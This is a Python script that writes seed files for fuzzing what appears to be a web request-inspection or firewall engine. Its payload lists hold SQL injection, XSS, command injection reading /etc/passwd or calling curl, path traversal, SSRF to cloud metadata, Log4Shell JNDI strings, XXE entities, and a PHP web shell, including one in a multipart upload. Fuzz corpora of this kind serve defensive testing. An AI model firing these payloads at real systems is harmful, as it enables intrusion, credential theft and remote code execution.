#!/usr/bin/env python3
"""Writes the seed inputs in seeds/<target>/ (seeds/values/ for the value-level targets) (small, hand-written; the corpus libFuzzer
grows goes to corpus/, which is not committed). Run from the fuzz directory."""
import json, os

ATTACKS = [
    "1' or '1'='1", "1 union select null,@@version--", "'; waitfor delay '0:0:5'--",
    "admin'/**/or/**/1=1#", "[dbo].[users]", "0x41424344", "1e-5 between 1 and 2",
    "<script>alert(1)</script>", "<img src=x onerror=alert`1`>", "javascript:alert(1)",
    "\"><svg/onload=eval(atob('YWxlcnQoMSk='))>", "<a href=\"&#x6a;avascript:x\">",
    "; cat /etc/passwd", "$(curl http://x)", "a|id", "`whoami`", "{cat,/etc/passwd}",
    "${IFS}ls", "cmd /c dir", "powershell -enc SQBFAFgA", "for /f %i in (x) do y",
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "/.././/./x",
    "http://169.254.169.254/latest/", "http://0x7f.1/", "http://[::ffff:127.0.0.1]/",
    "gopher://127.0.0.1:6379/_", "http://user@2130706433:80/", "file:///etc/passwd",
    "${jndi:ldap://x/a}", "${${lower:j}ndi:${lower:l}dap://x}", "{{7*7}}", "#{7*7}",
    "{\"$ne\": null}", "*)(uid=*))(|(uid=*", "O:8:\"stdClass\":0:{}", "rO0ABXNyABE=",
    "__proto__[x]=1", "constructor.prototype.x", "a\r\nSet-Cookie: x=1", "%0d%0aLocation:",
    "<?php system($_GET[c]); ?>", "require('child_process').exec('x')",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "shell.php.jpg",
    "sqlmap/1.7", "text/html; charset=utf-7", "+ADw-script+AD4-", "2.2250738585072011e-308",
    "&lt;script&gt;", "\\u003cscript\\u003e", "%u0027", "%c0%ae%c0%ae/", "ＳＥＬＥＣＴ",
    "plain words only", "7f3c2a90-1b6e-4c8a-9d2f-0e5a6b7c8d91", "O'Brien's garden",
]

BODIES = {
    "body_json": [
        '{"a":"1\' or 1=1--","b":[1,{"c":"<script>"}],"d":"{\\"e\\":\\"../x\\"}"}',
        '{"query":"query { user(id: \\"1\' or 1=1\\") { name } }"}',
        '[[[[[[[[["x"]]]]]]]]]', '{"__proto__":{"x":1},"$where":"sleep(1)"}',
    ],
    "body_xml": [
        '<?xml version="1.0" encoding="utf-7"?><a x="1\' or 1=1">t<b/><![CDATA[<script>]]></a>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "http://x/">]><r>&x;</r>',
        '<a><!-- c --><?pi data?><b c=d e>text &lt;x&gt;</b></a>',
    ],
    "body_form": [
        "a=1%27+or+1%3D1--&b=%3Cscript%3E&_charset_=utf-7&c",
        "q=v&tab;b&tab;script:&x=%252e%252e%252f",
    ],
    "body_multipart": [
        "XX\n--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1' or 1=1--\r\n"
        "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../s.php\"\r\n"
        "Content-Type: application/x-php\r\n\r\n<?php system($_GET[1]); ?>\r\n"
        "--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3E\r\n"
        "--XX\r\nContent-Disposition: form-data; name=\"j\"\r\nContent-Type: application/json\r\n\r\n"
        "{\"a\":\"$(id)\"}\r\n--XX--\r\n",
        "b\n--b\nContent-Disposition: form-data; name=\"x\"\nContent-Transfer-Encoding: base64\n\n"
        "PHNjcmlwdD4=\n--b--\n",
    ],
    "cookie": [
        "sid=abc; theme=dark; q=1%27%20or%201%3D1--", "$Version=1; a=\"b\"; $Path=/",
        "JSESSIONID=x; PHPSESSID=y", "https://example.com/p?q=<script>&r=1",
        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/125.0", "Bearer eyJhbGciOiJub25lIiwia2lkIjoiLi4vLi4vZXRjL3Bhc3N3ZCJ9.eyJzdWIiOiIxIn0.",
        "Basic YWRtaW4nIG9yICcxJz0nMTpw",
    ],
    "graphql": [
        'query { user(id: "1\' or 1=1--") { name } } # comment',
        'mutation { a(b: """<script>""", c: "\\u0027") { d } }',
    ],
}

LINEAR = [  # (place, prefix, unit1, middle, unit2, suffix)
    (8, "", "' or '", "", "", ""), (8, "", "((((((((", "", "))", ""), (8, "", "/*", "", "*/", ""),
    (8, "", "<a ", "", "", ""), (8, "", "${", "", "}", ""), (8, "", "../", "", "", ""),
    (8, "", "%25", "", "", ""), (8, "", "&#", "", "", ""), (8, "", "\\u00", "", "", ""),
    (8, "", "$(", "", "", ""), (8, "", "http://", "", "", ""), (8, "", "[", "", "", ""),
    (8, "", "<!x>", "", "", ""), (4, "", "<a>", "", "<b/>", ""), (4, "", "<!--", "", "", ""),
    (4, "<r>", "<![CDATA[", "", "", ""), (4, "", "<?x", "", "", ""), (4, "", "<a b=", "", "", ""),
    (2, "", "[", "", "", ""), (2, "", "{\"a\":", "", "", ""), (3, "", "\"", "", "", ""),
    (5, "", "a=", "", "&", ""), (5, "", "&amp;", "", "", ""), (6, "--XX\r\n", "Content-Type: a\r\n", "", "", ""),
    (6, "", "--XX\r\n", "", "", ""), (7, "", "\"", "", "\"\"\"", ""), (7, "", "#", "", "\n", ""),
    (0, "q=", "%", "", "", ""), (1, "", "a/", "", "", ""), (10, "", "a=b;", "", "", ""),
    (11, "", "Mozilla/5.0 (", "", ")", ""), (12, "http://x/?", "a=b&", "", "", ""),
    (13, "Bearer ", "a.", "", "", ""), (9, "", "\\", "", "", ""), (8, "", "select ", "", "", ""),
    (8, "", "-- w x y z v ", "", "", ""), (8, "", "{{1*1", "", "", ""), (8, "", "+ADw-", "", "", ""),
    (8, "", "java.lang.", "", "", ""), (8, "", "\u00bca\u00be\u00bc/", "", "", ""),
    (4, "<", "A", ">", "<b/>", ""), (4, "", "<a\x01", "", "<b/>", ""), (3, "", ">", "", "", ""),
    (8, "", "2.2250738585072011e-30", "", "", ""), (8, "", "$a[", "", "", ""), (8, "", "a(", "", "", ""),
]

def write(target, name, data):
    d = os.path.join(os.path.dirname(os.path.abspath(__file__)), target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)

for i, a in enumerate(ATTACKS):
    b = a.encode()
    # Origin 3 (a parameter value), no header: for the decoders, detectors and judge.
    write("values", f"{i:03}", bytes([3, 0]) + b)
    write("misc", f"{i:03}", bytes([i % 16, 3, 0]) + b)
for t, bodies in BODIES.items():
    for i, body in enumerate(bodies):
        write(t, f"{i:03}", body.encode())
for i, (place, *parts) in enumerate(LINEAR):
    write("linear", f"{i:03}", bytes([place]) + b"\xff".join(p.encode() for p in parts))
